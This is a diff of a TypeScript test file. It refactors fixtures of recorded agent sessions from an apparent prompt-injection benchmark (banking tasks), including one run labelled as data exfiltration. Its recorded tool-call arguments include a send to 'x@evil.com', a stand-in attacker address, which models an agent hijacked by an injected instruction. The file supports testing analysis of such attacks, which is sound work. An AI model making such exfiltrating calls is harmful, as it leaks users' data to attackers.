@@ -80,41 +80,21 @@ describe('a fleet folder', () => {
 
 /** Two sessions of one run, and one of another. */
 function recordedFiles(): Record<string, string> {
-  const run = (id: string, over: object) => ({
-    ...{
-      id,
-      src: 'agentdojo',
-      m: 'model-a',
-      d: 'none',
-      s: 'banking',
-      u: 'user_task_1',
-      i: null,
-      y: 0,
-      cls: null,
-      amb: 0,
-      fin: 12,
-      tl: [5, 0, 12],
-    },
-    c: [
-      [0, 0, 20, 0, 0, 30, 0, 0],
-      [1, 1, 500, 1, 0, 9, 0, 0],
-    ],
-    ...over,
-  });
-  const attack = {
-    ...{ m: 'model-b', i: 'injection_task_1', y: 2, cls: 'data_exfiltration' },
-    c: [
-      [0, 0, 20, 0, 0, 30, 1, 0],
-      [1, 1, 500, 1, 0, 9, 0, 1],
-    ],
-  };
-  const session = (agent: string, id: string) => ({
-    ...{ agent, src: 'agentdojo', m: 'model-a', d: 'none', s: 'banking', swap: null },
-    tasks: [{ run: id, turns: [1767225600.5, 1767225604, 1767225610.25], calls: [1767225601, 1767225605.12] }],
-  });
+  const common = { src: 'agentdojo', m: 'model-a', d: 'none', s: 'banking' };
+  const quiet = { ...common, u: 'user_task_1', i: null, y: 0, cls: null, amb: 0, fin: 12, tl: [5, 0, 12] };
+  const callsOf = (injected: number, acted: number) => [
+    [0, 0, 20, 0, 0, 30, injected, 0],
+    [1, 1, 500, 1, 0, 9, 0, acted],
+  ];
+  const attack = { ...quiet, m: 'model-b', i: 'injection_task_1', y: 2, cls: 'data_exfiltration' };
+  const times = { turns: [1767225600.5, 1767225604, 1767225610.25], calls: [1767225601, 1767225605.12] };
+  const session = (agent: string, id: string) => ({ ...common, agent, swap: null, tasks: [{ run: id, ...times }] });
   return {
     'sessions.jsonl.gz': lines([session('n:0', 'r1'), session('n:1', 'r1'), { ...session('n:2', 'r2'), m: 'model-b' }]),
-    'traces.jsonl.gz': lines([run('r1', {}), run('r2', attack)]),
+    'traces.jsonl.gz': lines([
+      { ...quiet, id: 'r1', c: callsOf(0, 0) },
+      { ...attack, id: 'r2', c: callsOf(1, 1) },
+    ]),
     'args.jsonl.gz': lines([
       [0, 0, '{"file": "bill.txt"}', 20],
       [1, 1, '{"to": "x@evil.com"}', 500],
@@ -162,7 +142,7 @@ describe('recorded agents', () => {
 
   it('are relatives of those that share a run', () => {
     const relatives = keys.map((key) => source.relatives(key));
-    expect(relatives.map(({ length }) => length).sort()).toEqual([0, 1, 1]);
+    expect(relatives.map(({ length }) => length).toSorted((a, b) => a - b)).toEqual([0, 1, 1]);
     expect(relatives.flat().every((key) => source.metaOf!(key).runIds[0] === 'r1')).toBe(true);
     expect(source.relatives('t|nobody')).toEqual([]);
   });
